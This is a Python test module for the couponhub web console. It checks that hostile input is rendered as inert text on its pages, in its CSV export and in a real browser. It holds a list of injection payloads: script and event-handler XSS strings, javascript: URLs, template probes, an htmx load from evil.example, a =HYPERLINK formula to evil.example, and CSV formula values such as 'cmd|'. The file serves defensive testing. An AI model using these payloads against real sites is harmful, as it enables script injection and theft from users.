"""Texts that would be more than texts, wherever somebody else writes one: on every page they stay what they are."""

import csv
import io
import tempfile
from collections.abc import Iterator, Mapping, Sequence
from html.parser import HTMLParser
from pathlib import Path

import attrs
import pytest
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import expect

from couponhub import CouponHub
from couponhub.config import OidcSettings, ServerSettings, load_config
from couponhub.console.sessions import COOKIE
from couponhub.errors import CouponhubError
from couponhub.secret import Secret
from couponhub.state import AuditAction, Scope
from couponhub.testing import Control, EmulatorContext, EmulatorServer
from couponhub.testing.configuration import config_text
from couponhub.testing.vendors import emulators
from tests.console.browser import Visitor
from tests.console.harness import ConsoleHarness, opened, served
from tests.console.test_jobs import held

MARK = "xq7z"
"""In each of them; it is nowhere else."""
TEXTS = (
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"' autofocus onfocus='{MARK}()",
    f"javascript:{MARK}()",
    f"<svg/onload={MARK}()>",
    f"{{{{7*7}}}}{{% {MARK} %}}${{7*7}}",
    f"</textarea></title></option></script><script>{MARK}()</script>",
    f"<div hx-get=//evil.example/{MARK} hx-trigger=load>",
    f'<iframe srcdoc="<script>{MARK}()</script>"><!--',
    f"\N{RIGHT-TO-LEFT OVERRIDE}{MARK}\N{LEFT-TO-RIGHT ISOLATE}",
    f"{MARK}\N{LINE SEPARATOR}\N{PARAGRAPH SEPARATOR}<b>",
    f'=HYPERLINK("https://evil.example/{MARK}")',
    f"//evil.example/{MARK}",
    f"{MARK} &lt;img src=x&gt; &#x22; %3Cscript%3E",
)
MOBILE = "919800000001"


@attrs.frozen
class Hostile:
    """A console over vendors that write such texts; its reader is called by one.

    Attributes:
        addresses: Of pages on which they stand.
    """

    console: ConsoleHarness
    cookie: str
    csrf: str
    addresses: tuple[str, ...]

    def pages(self) -> Iterator[tuple[str, str]]:
        """Give every page with its name: those that are loaded, and those that forms lead to."""
        client = self.console.client
        for address in self.addresses:
            yield address, client.get(address).text
        about = {"csrf": self.csrf, "customer": MOBILE}
        yield "lookup", client.post("/", data=about).text
        yield "why", client.post("/lookup/why", data=about).text
        for name in self.console.controls:
            yield "check", client.post(f"/connections/{name}/check", data={"csrf": self.csrf}).text
        for text in TEXTS:
            form = {"csrf": self.csrf, "connection": text, "name": text, "list_id": text, "key": text}
            filled = {**form, "label": text, "expires": text, "extra": text, "column": text, "tag": text}
            yield "new list", client.post("/lists/new", data=filled).text
            yield (
                "new upload",
                client.post("/uploads/new", data={**filled, "file": (io.BytesIO(text.encode()), text)}).text,
            )
            yield "access", client.post("/access", data={**filled, "days": text}).text
            yield "find", client.post("/requests/find", data={**form, "request": text}).text
            body = f'{{"customer": {{"external_id": "{text}"}}}}'
            yield "try", client.post("/try/lookup", data={"csrf": self.csrf, "body": body}).text
            for kind in ("external_id", "email", "mobile"):
                yield (
                    "customer",
                    client.post("/", data={"csrf": self.csrf, "customer": text, "kind": kind}).text,
                )
            yield "ended", client.post("/lists/new", data={**filled, "csrf": "0"}).text
            yield "stranger", client.post("/sign-in", data={"token": text, "to": text}).text
            again = {"path": "/lists/new", "token": text, f"typed.{text}": text, "typed.name": text}
            yield "again", client.post("/sign-in/again", data=again).text
        for text in TEXTS[:3]:
            told = {"message": text, "code": text, "isError": True}
            answer = {**told, "error": told, "errors": [told], "status": told, "response": {"status": told}}
            for control in self.console.controls.values():
                control.fail("* *", "status", {"status": 400, "body": answer})
                for address in ("/lists?status=all", self.addresses[3], "/connections"):
                    yield f"a fault on {address}", client.get(address).text
                yield "a fault", client.post("/", data=about).text
                yield "why a fault", client.post("/lookup/why", data=about).text
                control.set_faults()


@pytest.fixture(scope="module")
def hostile() -> Iterator[Hostile]:
    """Lists, codes, uploads, tokens, people, acts and faults that are called so."""
    world = EmulatorContext()
    vendors = emulators((), world)
    codes = [f"{text[:40]}{MARK}{at}" for at, text in enumerate(TEXTS)]
    lists = [{"name": text, "codes": [f"{at}{text}"]} for at, text in enumerate(TEXTS)]
    places = {}
    for vendor in vendors:
        vendor.seed({"customers": [{"mobile": MOBILE}]} if vendor.name == "moengage" else {})
        places[vendor.name] = vendor.seed({"lists": [*lists, {"name": "all", "codes": codes}]})
    with EmulatorServer(vendors, world) as server, tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "couponhub.toml"
        store = f'[store]\nurl = "sqlite:///{folder}/store.db"\n'
        path.write_text(
            config_text(server.url, vendors, {"settle": 0.05, "timeout": 3.0}) + store, encoding="utf-8"
        )
        oidc = OidcSettings(
            issuer="https://id.example",
            client_id="x",
            client_secret=Secret("x"),
            claim="groups",
            name=TEXTS[0],
            scopes={"all": tuple(Scope)},
        )
        controls = {vendor.name: Control(server.url, vendor.name) for vendor in vendors}
        for name, control in controls.items():
            control.add_customer(mobile=MOBILE, email="a@example.com", external_id=TEXTS[1])
            control.issue(places[name][-1], {"mobile": MOBILE}, count=len(codes))
        config = attrs.evolve(load_config(path), server=ServerSettings(oidc=oidc))
        with CouponHub(config) as hub:
            yield _filled(opened(hub, controls), places)


def _filled(console: ConsoleHarness, places: Mapping[str, Sequence[str]]) -> Hostile:
    state = console.hub.state
    jobs = [held(console, text, f"A-{at}") for at, text in enumerate(TEXTS)]
    tokens = []
    for text in TEXTS:
        try:
            tokens.append(state.tokens.new(Scope, name=text)[1])
        except CouponhubError:  # no name of a token
            assert not text.isprintable()
        event = state.audit.begin(
            AuditAction.ARCHIVE_LIST, who=text, name=text, connection=text, list_id=text, reference=text
        )
        assert event.id
    lists = [f"/lists/{name}/{one}" for name, ids in places.items() for one in ids]
    sessions = console.app.pages._sessions
    cookie = sessions.begin_for(f"x{MARK}", TEXTS[1], ["all"], seconds=3600).partition(";")[0]
    session = sessions.of(cookie)
    assert session is not None
    console.client.set_cookie(COOKIE, cookie.partition("=")[2])
    return Hostile(
        console=console,
        cookie=cookie,
        csrf=session.csrf,
        addresses=(
            "/",
            "/lists?status=all",
            "/lists?status=all&page=2",
            *lists,
            *(f"{one}/{what}" for one in lists[::15] for what in ("change", "uploads", "stock", "usage")),
            f"{lists[0].rpartition('/')[0]}/{MARK}%3Cscript%3E",
            "/jobs",
            *(f"/jobs/{job}{more}" for job in jobs[:3] for more in ("", "/cancel")),
            *(f"/uploads/{job}/check" for job in jobs),
            *(f"/access/{token.id}/remove" for token in tokens),
            f"/uploads/new?connection=moengage&list=%3Cscript%3E{MARK}&name=%22%3E{MARK}&column='{MARK}",
            "/connections",
            "/audit",
            f"/audit?who=%22%3E%3Cimg%20src%3Dx%20onerror%3D{MARK}%28%29%3E",
            "/access",
            "/requests",
            "/docs",
            f"/%3Cscript%3E{MARK}",
            f"/sign-in?to=/%22%3E{MARK}",
        ),
    )


class _Reader(HTMLParser):
    """Finds where a page holds more than text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.odd: list[str] = []
        self.texts: list[str] = []
        self._in = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._in = tag
        names = dict(attrs)
        if MARK in tag or (
            tag in {"iframe", "object", "embed", "base", "img"} and (names.get("src") or "")[:8] != "/static/"
        ):
            self.odd.append(tag)
        if tag == "script" and not (names.get("src") or "").startswith("/static/"):
            self.odd.append(tag)
        for name, value in attrs:
            text = value or ""
            is_address = name in {"href", "src", "action", "formaction"} or (
                name.startswith("hx-") and MARK in text
            )
            if name.startswith("on") or name in {"style", "srcdoc"} or MARK in name or not name.isascii():
                self.odd.append(f"{tag} {name}")
            if is_address and not (
                text.startswith(("/", "#")) and text[1:2] not in {"/", "\\"} and text.isascii()
            ):
                self.odd.append(f"{tag} {name}={text}")

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - as its base has it
        self._in = ""

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"<!--{data}")

    def handle_data(self, data: str) -> None:
        if self._in in {"script", "style"} and data.strip():
            self.odd.append(f"<{self._in}>{data}")
        self.texts.append(data)


def test_every_text_stays_a_text(hostile: Hostile) -> None:
    """No page has an element, an attribute or an address that one of them made, and each is there to be read."""
    shown = ""
    for name, page in hostile.pages():
        reader = _Reader()
        reader.feed(page)
        reader.close()
        assert [] == reader.odd, name
        assert "evil.example" not in page or "a fault of couponhub itself" not in page
        shown += "".join(reader.texts)
    for text in TEXTS:
        assert text in shown or not text.isprintable(), text
    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in hostile.console.client.get("/audit").text


def test_no_table_works_anything_out(hostile: Hostile) -> None:
    """A cell that begins like a formula is led by an apostrophe, also with wide signs, and no cell begins a row of its own."""
    state = hostile.console.hub.state
    for sign in "=+-@\t＝＋－＠":  # noqa: RUF001 - those are meant
        state.audit.begin(
            AuditAction.ARCHIVE_LIST, who=f"{sign}1+1", name=f'{sign}cmd|"\r\n=1', reference="x"
        )
    answer = hostile.console.client.get("/audit.csv")
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))
    assert {len(rows[0])} == {len(row) for row in rows}
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r＝＋－＠" and cell]  # noqa: RUF001 - the same
    assert 'attachment; filename="audit.csv"' == answer.headers["Content-Disposition"]


def test_nothing_runs_at_a_browser(hostile: Hostile, chromium: Chromium) -> None:
    """No dialog, no breach of the policy, no other host: on one page of each kind, with what scripts put into it."""
    with served(hostile.console.app) as address, chromium.new_context() as context:
        visitor = Visitor(context.new_page(), address)
        page = visitor.page
        visitor.sign_in(hostile.console.token(*Scope))
        for path in ("/lists?status=all", hostile.addresses[3], "/jobs", "/audit", "/access", "/connections"):
            visitor.go(path)
            page.wait_for_load_state("networkidle")
        visitor.go("/")
        page.locator("#customer").fill(MOBILE)
        page.keyboard.press("Enter")
        expect(page.locator("#said")).to_be_visible()
        page.get_by_role("button", name="Show").first.click()
        expect(page.locator(".shown").first).to_contain_text(MARK, ignore_case=True)
        assert page.evaluate("typeof xq7z") == "undefined"
        visitor.require_nothing_odd()
